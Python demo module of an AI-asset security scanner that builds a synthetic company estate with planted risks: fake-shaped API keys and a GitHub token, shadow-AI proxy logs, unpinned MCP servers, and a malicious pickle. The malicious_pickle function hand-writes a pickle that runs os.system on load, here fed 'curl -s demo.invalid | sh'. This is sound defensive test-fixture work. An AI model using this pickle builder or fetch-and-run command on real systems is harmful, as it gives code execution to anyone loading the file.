"""A realistic synthetic AI estate, and the demo that scans it (``make demo``).

``python -m aiposture.demo`` builds the estate in a temporary folder, scans
it into a fresh SQLite store, prints the inventory and the findings, rescans
to show that unchanged files are skipped, writes a CycloneDX AI-BOM, then
feeds two generated days of AI traffic (benign use and five attacks) through
the monitoring detectors and prints the alerts.

The estate is written by :func:`build_estate`, which tests and benchmarks
use too. Its credentials are random strings made at run time in the shape
of real keys (so detectors treat them as live); they are valid for nothing.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import secrets
import string
import sys
import tempfile
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import v4

__all__ = ["Estate", "build_estate", "fake_anthropic_key", "fake_openai_key", "main"]

_ALNUM = string.ascii_letters + string.digits


def _rand(n: int, alphabet: str = _ALNUM) -> str:
    return "".join(secrets.choice(alphabet) for _ in range(n))


def fake_openai_key() -> str:
    """A random string in the shape of an OpenAI project key (valid for nothing)."""
    return f"sk-proj-{_rand(20)}T3BlbkFJ{_rand(20)}"


def fake_anthropic_key() -> str:
    """A random string in the shape of an Anthropic API key (valid for nothing)."""
    return f"sk-ant-api03-{_rand(93, _ALNUM + '-_')}AA"


@dataclass
class Estate:
    """What :func:`build_estate` planted, so callers can check it was found."""

    root: Path
    secrets: list[str] = field(default_factory=list)
    models: set[str] = field(default_factory=set)
    services: set[str] = field(default_factory=set)
    packages: set[str] = field(default_factory=set)
    mcp_servers: set[str] = field(default_factory=set)
    applications: set[str] = field(default_factory=set)
    notebooks: set[str] = field(default_factory=set)
    non_ai_files: list[Path] = field(default_factory=list)
    #: Model files by name, and the ones whose loading would run code.
    model_files: set[str] = field(default_factory=set)
    unsafe_model_files: set[str] = field(default_factory=set)
    #: Hugging Face models in the planted hub cache (repo ids).
    hub_models: set[str] = field(default_factory=set)
    #: Proxy logs, and the catalogue ids of the AI services they show (sanctioned or not).
    logs: list[Path] = field(default_factory=list)
    logged_services: set[str] = field(default_factory=set)
    shadow_services: set[str] = field(default_factory=set)
    #: Services the demo's configuration sanctions.
    sanctioned: tuple[str, ...] = ("openai", "anthropic")


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return path


def _notebook(path: Path, cells: list[nbformat.NotebookNode]) -> Path:
    nb = v4.new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    return path


def build_estate(root: Path) -> Estate:
    """Write a small company's AI estate under ``root`` and return what was planted."""
    root.mkdir(parents=True, exist_ok=True)
    est = Estate(root=root)
    openai_key = fake_openai_key()
    anthropic_key = fake_anthropic_key()
    est.secrets += [openai_key, anthropic_key]

    # A customer-facing support bot on OpenAI, with a key pasted into its settings.
    bot = root / "support-bot"
    _write(
        bot / "requirements.txt",
        """
        # runtime
        fastapi==0.115.0
        openai==1.51.0
        langchain-openai>=0.2,<0.3
        tiktoken==0.8.0
        """,
    )
    _write(
        bot / "settings.py",
        f"""
        \"\"\"Settings of the support bot.\"\"\"
        OPENAI_API_KEY = "{openai_key}"
        DEFAULT_MODEL = "gpt-4o-mini"
        """,
    )
    _write(
        bot / "bot.py",
        """
        from openai import OpenAI

        from settings import DEFAULT_MODEL, OPENAI_API_KEY

        MODEL = "gpt-4o-mini"
        client = OpenAI(api_key=OPENAI_API_KEY)


        def answer(question: str, model: str = MODEL) -> str:
            reply = client.chat.completions.create(
                model=model,
                messages=[{"role": "user", "content": question}],
            )
            return reply.choices[0].message.content or ""


        def embed(text: str) -> list[float]:
            return client.embeddings.create(model="text-embedding-3-small", input=text).data[0].embedding
        """,
    )
    est.applications.add("support-bot")
    est.models |= {"gpt-4o-mini", "text-embedding-3-small"}
    est.services.add("openai")
    est.packages |= {"openai", "langchain-openai", "tiktoken"}

    # Claims triage on Anthropic through LangChain, with its own MCP server.
    claims = root / "claims-triage"
    _write(
        claims / "pyproject.toml",
        """
        [project]
        name = "claims-triage"
        version = "0.3.0"
        dependencies = [
            "anthropic==0.39.0",
            "langchain-anthropic>=0.3",
            "mcp>=1.2",
            "pydantic>=2",
        ]
        """,
    )
    _write(
        claims / "claims_triage" / "triage.py",
        """
        import os

        from langchain_anthropic import ChatAnthropic

        llm = ChatAnthropic(
            model="claude-3-5-sonnet-20241022",
            api_key=os.environ["ANTHROPIC_API_KEY"],
        )


        def triage(claim_text: str) -> str:
            return llm.invoke(f"Classify this insurance claim: {claim_text}").content
        """,
    )
    _write(
        claims / "claims_triage" / "tools_server.py",
        """
        from mcp.server.fastmcp import FastMCP

        mcp = FastMCP("claims-tools")


        @mcp.tool()
        def lookup_policy(policy_id: str) -> dict:
            \"\"\"Return the policy record for a policy id.\"\"\"
            return {"policy_id": policy_id}


        if __name__ == "__main__":
            mcp.run()
        """,
    )
    est.applications.add("claims-triage")
    est.models.add("claude-3-5-sonnet-20241022")
    est.services.add("anthropic")
    est.packages |= {"anthropic", "langchain-anthropic", "mcp"}
    est.mcp_servers.add("claims-tools")

    # Research notebooks: Hugging Face models, and a key printed in an output.
    research = root / "research"
    _write(research / "requirements.txt", "sentence-transformers==3.2.1\ntransformers==4.46.0\n")
    _notebook(
        research / "embeddings.ipynb",
        [
            v4.new_markdown_cell("# Ticket similarity\nWe embed support tickets."),
            v4.new_code_cell(
                "from sentence_transformers import SentenceTransformer\n"
                'encoder = SentenceTransformer("sentence-transformers/all-MiniLM-L6-v2")'
            ),
            v4.new_code_cell(
                "from transformers import AutoModelForSequenceClassification\n"
                "clf = AutoModelForSequenceClassification.from_pretrained(\n"
                '    "distilbert-base-uncased-finetuned-sst-2-english"\n)'
            ),
        ],
    )
    eval_nb = [
        v4.new_code_cell(
            'import os\nimport anthropic\nkey = os.environ["ANTHROPIC_API_KEY"]\nprint(key)',
            outputs=[v4.new_output("stream", name="stdout", text=anthropic_key + "\n")],
        ),
        v4.new_code_cell(
            "client = anthropic.Anthropic(api_key=key)\n"
            "msg = client.messages.create(\n"
            '    model="claude-3-5-haiku-20241022", max_tokens=256,\n'
            '    messages=[{"role": "user", "content": "Summarise Q3 churn."}],\n)'
        ),
    ]
    _notebook(research / "eval-claude.ipynb", eval_nb)
    est.applications.add("research")
    est.notebooks |= {"embeddings.ipynb", "eval-claude.ipynb"}
    est.models |= {
        "sentence-transformers/all-MiniLM-L6-v2",
        "distilbert-base-uncased-finetuned-sst-2-english",
        "claude-3-5-haiku-20241022",
    }
    est.services.add("huggingface")
    est.packages |= {"sentence-transformers", "transformers"}

    # A fraud model trained in-house.
    fraud = root / "fraud-model"
    _write(fraud / "requirements.txt", "scikit-learn==1.5.2\nxgboost==2.1.1\npandas==2.2.3\n")
    _write(
        fraud / "train.py",
        """
        import pandas as pd
        import xgboost as xgb
        from sklearn.model_selection import train_test_split


        def train(path: str) -> xgb.XGBClassifier:
            frame = pd.read_parquet(path)
            x_train, _, y_train, _ = train_test_split(frame.drop(columns="label"), frame["label"])
            model = xgb.XGBClassifier(n_estimators=200)
            model.fit(x_train, y_train)
            return model
        """,
    )
    est.applications.add("fraud-model")
    est.packages |= {"scikit-learn", "xgboost"}

    # Shadow AI: a script that posts to Mistral's API with plain HTTP.
    _write(
        root / "ops-scripts" / "summarise_incidents.py",
        """
        import os

        import requests

        API = "https://api.mistral.ai/v1/chat/completions"


        def summarise(text: str) -> str:
            resp = requests.post(
                API,
                headers={"Authorization": f"Bearer {os.environ['MISTRAL_KEY']}"},
                json={"model": "mistral-large-latest", "messages": [{"role": "user", "content": text}]},
                timeout=30,
            )
            return resp.json()["choices"][0]["message"]["content"]
        """,
    )
    est.models.add("mistral-large-latest")
    est.services.add("mistral")

    # Documentation naming a model.
    _write(
        root / "docs" / "architecture.md",
        """
        # Architecture

        The support bot answers with `gpt-4o-mini` and falls back to a human.
        """,
    )

    # Files without AI: nothing may come of them.
    est.non_ai_files += [
        _write(
            root / "billing" / "invoices.py",
            """
            \"\"\"Invoice maths. Not to be confused with openai or anthropic usage.\"\"\"
            import decimal

            # TODO: maybe ask ChatGPT to write the rounding rules
            def total(lines: list[decimal.Decimal]) -> decimal.Decimal:
                return sum(lines, decimal.Decimal(0))
            """,
        ),
        _write(root / "billing" / "requirements.txt", "requests==2.32.3\nboto3==1.35.0\n"),
        _write(root / "billing" / "README.md", "# Billing\nComputes invoices every night.\n"),
    ]
    _plant_model_files(root, est)
    _plant_hub_cache(root, est)
    _plant_mcp_configs(root, est)
    _plant_proxy_log(root.parent / "logs", est)
    return est


def safetensors_bytes(tensors: dict[str, tuple[str, list[int]]]) -> bytes:
    """A valid safetensors file of zero-filled tensors (``name -> (dtype, shape)``)."""
    sizes = {"F32": 4, "F16": 2, "BF16": 2, "I64": 8}
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    offset = 0
    for name, (dtype, shape) in tensors.items():
        n = sizes[dtype]
        for dim in shape:
            n *= dim
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + n]}
        offset += n
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return len(raw).to_bytes(8, "little") + raw + bytes(offset)


def malicious_pickle(command: str) -> bytes:
    """A protocol-2 pickle whose loading would call ``os.system(command)``.

    Written opcode by opcode; nothing is pickled, and aiposture never loads it.
    """
    arg = command.encode()
    return (
        b"\x80\x02"  # PROTO 2
        + b"cposix\nsystem\n"  # GLOBAL posix.system (what os.system pickles as)
        + b"X"  # BINUNICODE
        + len(arg).to_bytes(4, "little")
        + arg
        + b"\x85"  # TUPLE1
        + b"R"  # REDUCE: call it
        + b"."  # STOP
    )


def _plant_model_files(root: Path, est: Estate) -> None:
    models = root / "fraud-model" / "artifacts"
    models.mkdir(parents=True, exist_ok=True)
    # Someone shared a "model" on a chat channel; loading it runs a shell command.
    (models / "fraud_xgb_v2.pkl").write_bytes(malicious_pickle("curl -s demo.invalid | sh"))
    (models / "fraud_head.safetensors").write_bytes(
        safetensors_bytes({"dense.weight": ("F32", [16, 8]), "dense.bias": ("F32", [16])})
    )
    est.model_files |= {"fraud_xgb_v2.pkl", "fraud_head.safetensors"}
    est.unsafe_model_files.add("fraud_xgb_v2.pkl")


def _plant_hub_cache(root: Path, est: Estate) -> None:
    hub = root / "research" / ".cache" / "huggingface" / "hub"
    repos = {
        "sentence-transformers/all-MiniLM-L6-v2": (
            "apache-2.0",
            ["sentence-transformers/embedding-training-data"],
            {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 384},
        ),
        "meta-llama/Llama-3.2-1B-Instruct": (
            "llama3.2",
            [],
            {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 2048},
        ),
    }
    for n, (repo, (licence, datasets, config)) in enumerate(sorted(repos.items())):
        folder = hub / ("models--" + repo.replace("/", "--"))
        commit = f"{n + 1:x}" * 40
        snapshot = folder / "snapshots" / commit
        blobs = folder / "blobs"
        blobs.mkdir(parents=True, exist_ok=True)
        snapshot.mkdir(parents=True, exist_ok=True)
        _write(folder / "refs" / "main", commit)
        card = ["---", f"license: {licence}"]
        if datasets:
            card += ["datasets:", *(f"- {d}" for d in datasets)]
        card += ["library_name: transformers", "---", "", f"# {repo.split('/')[1]}", ""]
        files = {
            "config.json": json.dumps(config, indent=2).encode(),
            "README.md": "\n".join(card).encode(),
            "model.safetensors": safetensors_bytes({"embeddings.weight": ("F16", [64, 8])}),
        }
        for name, data in files.items():
            blob = blobs / hashlib.sha256(data).hexdigest()
            blob.write_bytes(data)
            (snapshot / name).symlink_to(Path("..", "..", "blobs", blob.name))
        est.hub_models.add(repo)
    est.model_files.add("model.safetensors")


def _plant_mcp_configs(root: Path, est: Estate) -> None:
    github_token = f"ghp_{_rand(36)}"
    est.secrets.append(github_token)
    # Cursor, project level: a token pasted into the config, an unpinned npx package.
    _write(
        root / "claims-triage" / ".cursor" / "mcp.json",
        f"""
        {{
          // added during the hackathon
          "mcpServers": {{
            "github": {{
              "command": "npx",
              "args": ["-y", "@modelcontextprotocol/server-github"],
              "env": {{"GITHUB_PERSONAL_ACCESS_TOKEN": "{github_token}"}},
            }},
            "claims-tools": {{
              "command": "python",
              "args": ["-m", "claims_triage.tools_server"],
            }},
          }},
        }}
        """,
    )
    # VS Code, project level ("servers", not "mcpServers"): a remote server, no auth.
    _write(
        root / "support-bot" / ".vscode" / "mcp.json",
        """
        {
          "servers": {
            "kb-search": {"type": "http", "url": "https://mcp.kb.example.com/mcp"},
            "github": {
              "command": "npx",
              "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
              "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "${input:github_token}"}
            }
          }
        }
        """,
    )
    est.mcp_servers |= {"github", "kb-search"}


def _plant_proxy_log(folder: Path, est: Estate) -> None:
    """A Squid access log: sanctioned OpenAI and Anthropic API traffic, and shadow AI."""
    folder.mkdir(parents=True, exist_ok=True)
    start = 1_764_000_000
    rows = [
        # (seconds after start, client, user, bytes, method, url or host:port)
        (0, "10.0.4.21", "svc-support-bot", 5120, "CONNECT", "api.openai.com:443"),
        (60, "10.0.4.21", "svc-support-bot", 4800, "CONNECT", "api.openai.com:443"),
        (95, "10.0.7.13", "dana", 7700, "CONNECT", "api.anthropic.com:443"),
        (120, "10.0.9.40", "lee", 182_000, "CONNECT", "chatgpt.com:443"),
        (180, "10.0.9.40", "lee", 2_400_000, "CONNECT", "chatgpt.com:443"),
        (240, "10.0.9.41", "sam", 9_100_000, "CONNECT", "api.otter.ai:443"),
        (300, "10.0.9.42", "kim", 15_000, "CONNECT", "www.deepl.com:443"),
        (330, "10.0.9.40", "lee", 3_300, "GET", "http://example.org/index.html"),
        (360, "10.0.9.43", "ash", 64_000, "CONNECT", "eu.api.openai.com:443"),
    ]
    lines = [
        f"{start + t}.{n:03d}    412 {client} TCP_TUNNEL/200 {size} {method} {url} {user} "
        f"HIER_DIRECT/{'203.0.113.' + str(10 + n)} -"
        for n, (t, client, user, size, method, url) in enumerate(rows)
    ]
    log = folder / "proxy-access.log"
    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    est.logs.append(log)
    est.logged_services |= {"openai", "anthropic", "chatgpt", "otter", "deepl"}
    est.shadow_services |= {"chatgpt", "otter", "deepl"}


def annotate(db: str, estate: Estate) -> list[str]:
    """Record what a team knows and a scan cannot: environments, data, who the users are.

    Returns:
        One line per change, for the demo to print.
    """
    from aiposture.posture import Posture

    changes: list[tuple[str, dict[str, object]]] = [
        (
            "support-bot",
            {
                "environment": "prod",
                "data_sensitivity": "confidential",
                "tags": ["customer-facing"],
                "owner": "support-eng",
            },
        ),
        ("claims-triage", {"environment": "prod", "data_sensitivity": "restricted"}),
        ("fraud-model", {"environment": "prod", "data_sensitivity": "confidential"}),
        ("research", {"environment": "dev", "data_sensitivity": "public"}),
        # The proxy's DLP flagged customer records in the uploads to ChatGPT.
        ("ChatGPT", {"data_sensitivity": "confidential"}),
    ]
    lines = []
    with Posture.open(db, actor="demo") as p:
        for ref, fields in changes:
            p.update_asset(ref, **fields)
            lines.append(f"{ref}: " + ", ".join(f"{k}={v}" for k, v in fields.items()))
    return lines


DEMO_POLICY = {
    "access.cedar": """\
// Engineers of the ML group deploy models; nobody else does.
@id("ml-deploys")
permit(principal in Group::"ml", action == Action::"deploy", resource);

// No AI agent deploys anything, whatever group it was put in.
@id("no-agent-deploy")
forbid(principal is Agent, action == Action::"deploy", resource);

// Everyone may query the models.
@id("anyone-queries")
permit(principal, action == Action::"query", resource);
""",
    "principals.yaml": """\
principals:
  - id: priya
    groups: [ml]
  - id: marco
    groups: [ml-leads]
  - id: security-copilot
    type: agent
    groups: [ml, ml-leads]
""",
    "approvals.yaml": """\
approvals:
  - id: prod-deploys
    action: deploy
    resource:
      kinds: [model]
    approvers: 1
    group: ml-leads
    valid_for: 3600
""",
}


def write_policy(folder: Path) -> Path:
    """Write the demo's policy folder: priya (ml) deploys, marco (ml-leads) approves
    deploys of models, the agent security-copilot may do neither."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in DEMO_POLICY.items():
        _write(folder / name, text)
    return folder


def write_traffic(path: Path, events_per_day: int, *, seed: int = 7) -> int:
    """Write two days of generated AI traffic ending yesterday (attacks on the second day:
    an injection campaign, indirect injection, an exfiltration through a markdown image,
    a model-extraction attempt and a behaviour drift); the number of events."""
    from datetime import UTC, datetime, timedelta

    from aiposture.monitor.traffic import generate_traffic

    today = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    traffic = generate_traffic(
        today - timedelta(days=2), days=2, events_per_day=events_per_day, seed=seed
    )
    traffic.to_jsonl(path)
    return len(traffic.events)


def _to_file(cli: Callable[[list[str]], int], argv: list[str], path: Path) -> int:
    """Run a CLI command with its standard output written to ``path``."""
    import contextlib

    with open(path, "w", encoding="utf-8") as fh, contextlib.redirect_stdout(fh):
        return cli(argv)


def main(argv: list[str] | None = None) -> int:
    """Build the demo estate, scan it, assess it, print the inventory, risks and findings."""
    parser = argparse.ArgumentParser(prog="python -m aiposture.demo", description=__doc__)
    parser.add_argument("--dir", type=Path, help="Folder for the estate and store (default: temp)")
    parser.add_argument(
        "--traffic",
        type=int,
        default=500,
        help="Benign events per day of the generated AI traffic (two days; 0 skips it)",
    )
    args = parser.parse_args(argv)

    from rich.console import Console

    from aiposture.cli import main as cli

    console = Console()
    base = args.dir or Path(tempfile.mkdtemp(prefix="aiposture-demo-"))
    estate = build_estate(base / "estate")
    db = f"sqlite:///{base / 'posture.db'}"
    config = base / "aiposture.toml"
    config.write_text(
        "[discovery]\nsanctioned_services = ["
        + ", ".join(f'"{s}"' for s in estate.sanctioned)
        + "]\n"
        # the generated traffic's own sites: images and links to them are not exfiltration
        + '[monitor]\nallowed_hosts = ["corp.example"]\n',
        encoding="utf-8",
    )
    console.rule("[bold]aiposture demo")
    console.print(f"estate: {estate.root}\nstore:  {db}\nconfig: {config}\n")
    logs = [arg for log in estate.logs for arg in ("--logs", str(log))]
    scan = ["--config", str(config), "scan", str(estate.root), *logs, "--db", db, "--no-progress"]

    steps: list[tuple[str, list[str]]] = [
        ("1. scan the estate and the proxy log", scan),
        ("2. what the team knows: environments, data, customers", []),
        ("3. the inventory", ["inventory", "--db", db]),
        ("4. assess: the top risks and why", ["assess", "--db", db, "--top", "8"]),
        ("5. findings, worst first", ["findings", "--db", db]),
        (
            "6. rescan: unchanged files are skipped",
            scan,
        ),
        ("7. CycloneDX AI-BOM", ["export", "cyclonedx", "-o", str(base / "bom.json"), "--db", db]),
        (
            "8. SARIF for code scanning",
            ["findings", "--format", "sarif", "--db", db],
        ),
        ("9. audit chain", ["audit", "verify", "--db", db]),
    ]
    if args.traffic > 0:
        traffic = write_traffic(base / "traffic.jsonl", args.traffic)
        steps += [
            (
                f"10. two days of AI traffic ({traffic} events, attacks on the second day): "
                "detectors, stored events, alerts",
                ["monitor", str(base / "traffic.jsonl"), "--db", db],
            ),
            ("11. alerts to triage, worst first", ["alerts", "list", "--db", db]),
        ]
    for title, argv_ in steps:
        console.rule(title)
        if not argv_:
            for line in annotate(db, estate):
                console.print(line)
            continue
        if argv_[:3] == ["findings", "--format", "sarif"]:
            sarif = base / "findings.sarif"
            code = _to_file(cli, argv_, sarif)
            console.print(f"wrote {sarif}")
        else:
            code = cli(argv_)
        if code != 0:
            console.print(f"[red]step failed with exit code {code}[/red]")
            return code
    bom = json.loads((base / "bom.json").read_text(encoding="utf-8"))
    console.print(
        f"AI-BOM: {len(bom.get('components', []))} components, "
        f"{len(bom.get('services', []))} services -> {base / 'bom.json'}"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
